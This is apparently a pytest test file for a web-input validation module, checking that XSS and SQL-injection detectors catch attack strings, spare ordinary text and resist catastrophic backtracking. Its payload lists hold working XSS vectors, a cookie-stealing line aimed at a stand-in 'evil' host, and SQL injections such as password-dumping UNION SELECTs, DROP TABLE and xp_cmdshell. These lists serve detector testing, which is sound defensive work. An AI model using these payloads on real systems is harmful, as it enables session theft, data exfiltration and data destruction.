"""XSS and SQL-injection detectors: corpus rates, decoding, families beyond the corpus, safety.

The corpora live in ``tests/data/corpora`` (origins and licences in its
SOURCES.md). A missing folder fails loudly: the targets can't be checked without it.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from otelprod.validation import Finding, detect_sqli, detect_xss, is_attack

CORPORA = Path(__file__).resolve().parent / "data" / "corpora"

XSS_TARGET = 0.95
SQLI_TARGET = 0.95
FP_TARGET = 0.01
AMBIGUOUS_MAX_LEN = 3


def corpus_lines(path: Path, *, skip_comments: bool) -> list[str]:
    assert CORPORA.is_dir(), (
        f"corpus folder {CORPORA} is missing: it ships with the repository"
    )
    lines = path.read_text(encoding="utf-8").splitlines()
    return [line for line in lines
            if line.strip() and not (skip_comments and line.startswith("#"))]


def attack_files(prefix: str) -> list[Path]:
    files = sorted((CORPORA / "attacks").glob(f"{prefix}-*.txt"))
    assert files, f"no {prefix}-*.txt files under {CORPORA / 'attacks'}"
    return files


def split_ambiguous(lines: list[str]) -> tuple[list[str], list[str]]:
    ambiguous = [line for line in lines if len(line.strip()) <= AMBIGUOUS_MAX_LEN]
    return [line for line in lines if len(line.strip()) > AMBIGUOUS_MAX_LEN], ambiguous


@pytest.mark.parametrize("path", attack_files("xss") if CORPORA.is_dir() else [None],
                         ids=lambda p: p.name if p else "missing")
def test_xss_detection_rate_per_corpus_file(path: Path | None) -> None:
    assert path is not None, f"corpus folder {CORPORA} is missing"
    lines, ambiguous = split_ambiguous(corpus_lines(path, skip_comments=False))
    misses = [line for line in lines if not detect_xss(line)]
    rate = 1 - len(misses) / len(lines)
    assert rate >= XSS_TARGET, (
        f"{path.name}: {rate:.1%} detected (target {XSS_TARGET:.0%}); "
        f"{len(ambiguous)} ambiguous lines reported apart; misses:\n" + "\n".join(misses)
    )


@pytest.mark.parametrize("path", attack_files("sqli") if CORPORA.is_dir() else [None],
                         ids=lambda p: p.name if p else "missing")
def test_sqli_detection_rate_per_corpus_file(path: Path | None) -> None:
    assert path is not None, f"corpus folder {CORPORA} is missing"
    # the time-based list opens with a "# from wapiti" credit line
    lines, ambiguous = split_ambiguous(corpus_lines(path, skip_comments=True))
    misses = [line for line in lines if not detect_sqli(line)]
    rate = 1 - len(misses) / len(lines)
    assert rate >= SQLI_TARGET, (
        f"{path.name}: {rate:.1%} detected (target {SQLI_TARGET:.0%}); "
        f"{len(ambiguous)} ambiguous lines reported apart: {ambiguous}; misses:\n"
        + "\n".join(misses)
    )


def test_ambiguous_lines_exist_and_are_kept_apart() -> None:
    lines = corpus_lines(CORPORA / "attacks" / "sqli-auth-bypass.txt", skip_comments=False)
    _, ambiguous = split_ambiguous(lines)
    assert "'-'" in ambiguous and len(ambiguous) >= 5


def test_false_positive_rate_on_benign_queries() -> None:
    lines = corpus_lines(CORPORA / "benign" / "search-queries.txt", skip_comments=True)
    assert len(lines) > 400
    flagged = {line: [f.rule for f in detect_xss(line) + detect_sqli(line)] for line in lines}
    flagged = {line: rules for line, rules in flagged.items() if rules}
    rate = len(flagged) / len(lines)
    assert rate <= FP_TARGET, f"{rate:.2%} of benign lines flagged (target <= 1%): {flagged}"


# --- attack families that are not in the corpora ----------------------------------------

XSS_FAMILIES = [
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<xss onanimationstart=alert(1) style=animation-name:x>",
    "<details open ontoggle=confirm(document.domain)>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<form><button formaction=javascript:alert(1)>x",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%u003Cimg src=x onerror=alert(1)%u003E",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr\x00ipt>alert(1)</script>",
    "\"><img src=x onerror=prompt(1)>",
    "';alert(document.cookie);//",
    "\";document.location='http://evil/?c='+document.cookie;//",
    "{{constructor.constructor('alert(1)')()}}",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width:expr/**/ession(alert(1))\">",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<body onpageshow=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
]

SQLI_FAMILIES = [
    "' OR '1'='1",
    "' or 1=1 limit 1 -- -+",
    "1' ORDER BY 3--+",
    "' UNION SELECT username, password FROM users--",
    "1 UN/**/ION SEL/**/ECT 1,2,3",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "-1 union%0aselect 1,2,3",
    "%2527%2520or%25201%253D1--",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' AND pg_sleep(5)--",
    "1' and extractvalue(1,concat(0x7e,version()))--",
    "1 and updatexml(1,concat(0x7e,(select user())),1)",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "'; DROP TABLE users; --",
    "1; EXEC xp_cmdshell('dir')--",
    "admin'--",
    "admin')#",
    "' or 'a'='a",
    "\" or \"\"=\"",
    "' || '1'='1",
    "1 or 1 like 1",
    "1' and ascii(substring((select database()),1,1))>64--",
    "1 AND 1=2 UNION ALL SELECT table_name FROM information_schema.tables",
    "1+or+1%3D1",
    "' GROUP BY columnnames HAVING 1=1 --",
    "1' AND (SELECT COUNT(*) FROM users) > 0 --",
    "1) or benchmark(1000000,md5(1))#",
]


@pytest.mark.parametrize("payload", XSS_FAMILIES)
def test_xss_families_beyond_the_corpus(payload: str) -> None:
    findings = detect_xss(payload)
    assert findings, f"missed: {payload!r}"
    assert all(isinstance(f, Finding) and f.rule.startswith("xss.") for f in findings)


@pytest.mark.parametrize("payload", SQLI_FAMILIES)
def test_sqli_families_beyond_the_corpus(payload: str) -> None:
    findings = detect_sqli(payload)
    assert findings, f"missed: {payload!r}"
    assert all(f.threat == "sqli" and f.rule.startswith("sqli.") for f in findings)


BENIGN = [
    "O'Brien", "D'Angelo-Smith", "Rock 'n' roll", "It's 5 o'clock; let's go",
    "10\" or 12\" pizza", "Tom & Jerry", "cats or dogs", "salt and pepper",
    "1 AND 1/2\" BUTTON", "Select the best option from the list below",
    "Please update your profile and delete old photos",
    "Drop table lamps are 20% off", "Union Station to Times Square",
    "SELECT * is a common SQL idiom (discussed in the docs)",
    "email me at jane.o'neil@example.com", "https://example.com/search?q=a+b&page=2",
    "<b>bold</b> and <i>italic</i>", "<a href=\"https://example.com\">link</a>",
    "<img src=\"photo.jpg\" alt=\"me\">", "x < y and y > z",
    "JavaScript: The Good Parts", "regular expression (regex) tutorial",
    "price: $5 -- limited offer", "C:\\Users\\jane\\Documents", "a = b + c; // comment",
    "I <3 Python", "He said \"hello\" and left", "1,000,000", "#hashtag #2024",
    "online=true&mode=dark", "The 'sleep' command pauses", "onion rings", "Sleep (8 hours)",
    "-- signature --", "Dear Sir/Madam, I'm writing regarding order #1234.",
]


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_not_flagged(text: str) -> None:
    assert not detect_xss(text), detect_xss(text)
    assert not detect_sqli(text), detect_sqli(text)
    assert not is_attack(text)


def test_findings_carry_rule_ids_and_a_decoded_excerpt() -> None:
    [finding, *_] = detect_xss("%3Cscript%3Ealert(1)%3C/script%3E")
    assert finding.rule == "xss.script_tag" and finding.threat == "xss"
    assert "<script" in finding.excerpt
    rules = {f.rule for f in detect_sqli("' UNION SELECT 1 -- ")}
    assert "sqli.union_select" in rules
    assert str(finding).endswith("[xss.script_tag]")


@pytest.mark.parametrize("odd", [
    None, b"<script>alert(1)</script>", b"\xff\xfe<svg onload=alert(1)>", "a\ud800b",
    12345, 3.5, object(), ["<script>"], "", "\x00" * 100, "%" * 1000, "&#" * 1000,
    "\\u" * 1000, "%u" * 1000, "+ADw-" * 500,
])
def test_detectors_never_raise(odd: object) -> None:
    assert isinstance(detect_xss(odd), list)
    assert isinstance(detect_sqli(odd), list)


def test_bytes_are_decoded_before_detection() -> None:
    assert detect_xss(b"<script>alert(1)</script>")
    assert detect_sqli(b"' or 1=1--")


ADVERSARIAL = {
    "lt": "<" * 65536,
    "quote": "'" * 65536,
    "dquote": '"' * 65536,
    "brackets": "<" + "[(" * 32768,
    "parens": "(" * 65536,
    "tags": "<a " * 21845,
    "handlers": " onx=" * 13107,
    "comments": "/*" * 32768,
    "entities": "&#" * 32768,
    "percent": "%25" * 21845,
    "or": " or '" * 13107,
}


@pytest.mark.parametrize("name", ADVERSARIAL)
def test_no_catastrophic_backtracking(name: str) -> None:
    """A generous bound that only a blow-up can break; speed is the benchmark's job."""
    text = ADVERSARIAL[name]
    start = time.perf_counter()
    detect_xss(text)
    detect_sqli(text)
    assert time.perf_counter() - start < 1.0
